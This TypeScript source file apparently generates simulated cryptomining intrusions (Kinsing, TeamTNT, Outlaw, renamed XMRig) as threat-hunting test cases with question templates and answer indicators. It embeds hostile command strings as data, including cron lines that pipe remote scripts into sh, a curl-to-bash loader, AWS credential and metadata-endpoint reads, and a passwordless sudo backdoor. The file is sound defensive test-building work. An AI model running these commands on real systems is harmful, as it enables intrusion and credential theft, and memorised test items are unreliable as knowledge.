// Cryptomining intrusions: Kinsing, TeamTNT, Outlaw and a generic renamed XMRig.
import type { Rng } from "./prng.js";
import { cron, run, withDecoys, DISGUISES, randName, type Family } from "./kit.js";
import { MINING_POOLS, hostileIp, poolIp, rsaKey } from "./fleet.js";
import type { Base } from "./base-host.js";

export function wallet(rng: Rng): string {
  return `4${rng.pick(["8", "3", "4", "9", "A", "B"])}${rng.alnum(93, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")}`;
}

/** The account a service exploit lands as, and its home/cwd. */
export function serviceUser(b: Base): { uid: number; cwd: string; parent: number } {
  const s = b.svc;
  if (s["php-fpm"]) return { uid: b.h.spec.distro.pkg === "deb" ? 33 : 990, cwd: "/var/www/html", parent: s["php-fpm"] };
  if (s.apache2) return { uid: b.h.spec.distro.pkg === "deb" ? 33 : 48, cwd: "/var/www/html", parent: s.apache2 };
  if (s.tomcat) return { uid: 997, cwd: "/opt/tomcat", parent: s.tomcat };
  if (s.redis) return { uid: 115, cwd: "/var/lib/redis", parent: s.redis };
  if (s.node) return { uid: 1500, cwd: "/srv/app", parent: s.node };
  if (s.postgres) return { uid: b.h.spec.distro.pkg === "deb" ? 113 : 26, cwd: "/var/lib/postgresql", parent: s.postgres };
  return { uid: 0, cwd: "/", parent: 1 };
}

const MINER_Q = {
  direct: [
    "any cryptominers on {host}?", "is there a Monero miner running in {env}?", "check {host} for xmrig", "any stratum mining connections from the {role}?",
    "is {host} infected with a coin miner?", "look for cryptojacking on the {role}", "do we have a miner talking to a mining pool anywhere in {env}?",
  ],
  paraphrase: [
    "is something eating all the CPU on {host}?", "why is {host} pegged at 100% CPU?", "our compute bill jumped, is someone using the {role} for their own work?",
    "something is pinning the cores on the {role}, what is it?", "the {role} got really slow since yesterday, anything odd running?", "is {host} doing work for somebody else?",
  ],
};

function minerProc(b: Base, rng: Rng, name: string, path: string, cmdline: string, uid: number, parent: number, pool: string, port: number): number {
  const up = b.h.now - b.h.spec.boot;
  const pid = run(b.h, { name, path, cmdline, uid, parent, cwd: path.slice(0, path.lastIndexOf("/")) || "/", threads: b.h.spec.cpus + 2, ageMin: 3_600, ageMax: Math.min(up, 86_400 * 5), resident_size: rng.int(2_300, 2_600) * 1024 * 1024, nice: 0 });
  const row = b.h.rows("processes").find((r) => r.pid === String(pid));
  if (row) {
    const secs = b.h.now - Number(row.start_time);
    row.user_time = String(Math.floor(secs * 1000 * b.h.spec.cpus * 0.93));
    row.system_time = String(rng.int(2_000, 90_000));
    row.state = "R";
  }
  b.h.conn(pid, pool, port);
  return pid;
}

const kinsing: Family = {
  name: "kinsing", kind: "attack", attack: ["T1496", "T1053.003", "T1105", "T1190"], count: 5,
  sources: ["Aqua Security: Threat Alert: Kinsing Malware Attacks Targeting Container Environments", "Trend Micro: Kinsing Returns (2020)", "Microsoft: Kinsing malware targets Kubernetes clusters via containers (2022)", "Sigma proc_creation_lnx_curl_wget_exec_tmp"],
  q: { direct: [...MINER_Q.direct, "any sign of Kinsing on {host}?", "is kdevtmpfsi running anywhere?"], paraphrase: MINER_Q.paraphrase },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "cache", "ci-runner"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const dir = su.uid === 0 ? "/etc" : rng.pick(["/tmp", "/var/tmp"]);
    const c2 = hostileIp(rng);
    const pool = poolIp(rng);
    const loader = rng.pick(["d.sh", "ex.sh", "spr.sh", "lh.sh"]);
    h.file(`${dir}/kinsing`, { uid: su.uid, gid: su.uid, mode: "0755", size: rng.int(14_000_000, 18_000_000), mtime: h.recent(3_600, 86_400 * 3) });
    h.file(`${dir}/kdevtmpfsi`, { uid: su.uid, gid: su.uid, mode: "0755", size: rng.int(2_300_000, 2_600_000), mtime: h.recent(3_600, 86_400 * 3) });
    const k = run(h, { name: "kinsing", path: `${dir}/kinsing`, cmdline: `${dir}/kinsing`, uid: su.uid, parent: 1, cwd: dir, threads: 9 });
    h.conn(k, c2, 80);
    minerProc(b, rng, "kdevtmpfsi", `${dir}/kdevtmpfsi`, `${dir}/kdevtmpfsi`, su.uid, 1, pool, rng.pick([443, 80, 3333]));
    const spool = h.spec.distro.pkg === "deb" ? "/var/spool/cron/crontabs" : "/var/spool/cron";
    const user = su.uid === 0 ? "root" : h.rows("users").find((u) => u.uid === String(su.uid))?.username ?? "www-data";
    cron(h, `${spool}/${user}`, "* * * * *", `${rng.pick(["wget -q -O -", "curl -fsSL"])} http://${c2}/${loader} | sh > /dev/null 2>&1`);
    h.plant(`${dir}/kinsing`, `${dir}/kdevtmpfsi`, "kdevtmpfsi", c2);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [c2, `${dir}/kdevtmpfsi`, "kdevtmpfsi"] });
  },
};

const teamtnt: Family = {
  name: "teamtnt", kind: "attack", attack: ["T1496", "T1098.004", "T1552.005", "T1610", "T1136.001"], count: 4,
  sources: ["Cado Security: TeamTNT - The First Crypto-Mining Worm to Steal AWS Credentials (2020)", "Trend Micro: TeamTNT Now Deploying DDoS-Capable IRC Bot TNTbot", "Aqua Nautilus: TeamTNT Reemerged with New Aggressive Cloud Campaign (2023)"],
  q: { direct: [...MINER_Q.direct, "any TeamTNT activity on the docker hosts?", "did a worm add an SSH key and start mining on {host}?"], paraphrase: [...MINER_Q.paraphrase, "did someone break in through docker and leave a way back in?"] },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["ci-runner", "k8s", "app"] as const));
    const h = b.h;
    const c2 = hostileIp(rng);
    const pool = poolIp(rng);
    const [poolName, port] = rng.pick(MINING_POOLS);
    const disguise = rng.pick(["docker-update", "bioset", "kube-update", "dockerd-helper"]);
    const dir = rng.pick(["/usr/sbin", "/usr/bin", "/var/tmp/.docker"]);
    const path = `${dir}/${disguise}`;
    h.file(path, { mode: "0755", size: rng.int(2_300_000, 6_000_000), mtime: h.recent(3_600, 86_400 * 2) });
    minerProc(b, rng, disguise, path, `${path} -o ${poolName}:${port} -u ${wallet(rng)} -p ${h.spec.hostname} -k --donate-level 1`, 0, 1, pool, port);
    const keyComment = rng.pick(["hilde@teamtnt", "root@ubuntu", "x@tnt"]);
    h.add("authorized_keys", { uid: 0, algorithm: "ssh-rsa", key: rsaKey(rng), options: "", comment: keyComment, key_file: "/root/.ssh/authorized_keys" });
    h.history(0, "/root", [`curl -sLk http://${c2}/cmd/init.sh | bash`, "cat ~/.aws/credentials", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "docker ps -a", `chattr +i /root/.ssh/authorized_keys`], h.recent(3_600, 86_400 * 2));
    h.plant(path, keyComment, c2);
    if (rng.chance(0.5)) {
      h.add("users", { uid: 1100, gid: 1100, uid_signed: 1100, gid_signed: 1100, username: "hilde", description: "", directory: "/home/hilde", shell: "/bin/bash", uuid: "" });
      h.add("sudoers", { source: "/etc/sudoers", header: "hilde", rule_details: "ALL=(ALL) NOPASSWD: ALL" });
      h.plant("hilde");
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [c2, path] });
  },
};

const outlaw: Family = {
  name: "outlaw", kind: "attack", attack: ["T1496", "T1110.001", "T1098.004", "T1053.003", "T1036.004"], count: 4,
  sources: ["Trend Micro: Outlaw Hacking Group's Botnet Observed Spreading Miner, Perl-Based Backdoor (2018)", "Juniper Threat Labs: Dota3 malware again and again", "Elastic Security Labs: Outlaw Linux Malware (2025)"],
  q: { direct: [...MINER_Q.direct, "any Outlaw / dota botnet on {host}?", "is there a shellbot or IRC bot running?"], paraphrase: [...MINER_Q.paraphrase, "did somebody guess a password and move in on {host}?"] },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "db", "bastion", "app"] as const));
    const h = b.h;
    const victim = rng.pick([...b.admins, b.cloudUser]);
    const base = `${victim.home}/.configrc${rng.pick(["", "5", "7"])}`;
    const pool = poolIp(rng);
    h.file(`${base}/a/kswapd0`, { uid: victim.uid, gid: victim.uid, mode: "0755", size: 2_600_000 + rng.int(0, 200_000) });
    h.file(`${base}/a/upd`, { uid: victim.uid, gid: victim.uid, mode: "0755", size: 300 });
    h.file(`${base}/b/sync`, { uid: victim.uid, gid: victim.uid, mode: "0755", size: 180 });
    minerProc(b, rng, "kswapd0", `${base}/a/kswapd0`, "./kswapd0", victim.uid, 1, pool, rng.pick([80, 443]));
    const bot = run(h, { name: "rsync", path: "/usr/bin/perl", cmdline: "rsync", uid: victim.uid, cwd: `${base}/b` });
    h.conn(bot, hostileIp(rng), rng.pick([443, 6667]));
    const spool = h.spec.distro.pkg === "deb" ? `/var/spool/cron/crontabs/${victim.name}` : `/var/spool/cron/${victim.name}`;
    cron(h, spool, "5 6 */2 * 0", `${base}/a/upd>/dev/null 2>&1`);
    cron(h, spool, "@reboot", `${base}/a/upd>/dev/null 2>&1`);
    cron(h, spool, "5 8 * * 0", `${base}/b/sync>/dev/null 2>&1`);
    h.add("authorized_keys", { uid: victim.uid, algorithm: "ssh-rsa", key: rsaKey(rng), options: "", comment: "mdrfckr", key_file: `${victim.home}/.ssh/authorized_keys` });
    h.plant(`${base}/a/kswapd0`, base, "mdrfckr");
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [`${base}/a/kswapd0`, "mdrfckr"] });
  },
};

const xmrig: Family = {
  name: "renamed-xmrig", kind: "attack", attack: ["T1496", "T1036.005", "T1105"], count: 5,
  sources: ["Sigma proc_creation_lnx_crypto_mining", "Sigma net_connection_lnx_crypto_mining_indicators", "Atomic Red Team T1496", "XMRig documentation: command line options"],
  q: MINER_Q,
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "monitoring", "cache"] as const));
    const h = b.h;
    const su = serviceUser(b);
    const name = rng.pick(DISGUISES);
    const dir = rng.pick(["/dev/shm", "/tmp", "/var/tmp", `/dev/shm/.${randName(rng, 3)}`, `/tmp/.${randName(rng, 4)}`]);
    const path = `${dir}/${name}`;
    const [poolName, port] = rng.pick(MINING_POOLS);
    const pool = poolIp(rng);
    h.file(path, { uid: su.uid, gid: su.uid, mode: "0755", size: rng.int(2_200_000, 8_000_000), mtime: h.recent(3_600, 86_400 * 4) });
    const cmd = rng.chance(0.5) ? `./${name} -o ${poolName}:${port} -u ${wallet(rng)} -p x -k --tls --cpu-max-threads-hint=${rng.pick([75, 90, 100])} -B` : `./${name} -c config.json`;
    minerProc(b, rng, name, path, cmd, su.uid, 1, pool, port);
    h.plant(path, pool);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [pool, path] });
  },
};

export const MINER_FAMILIES: Family[] = [kinsing, teamtnt, outlaw, xmrig];
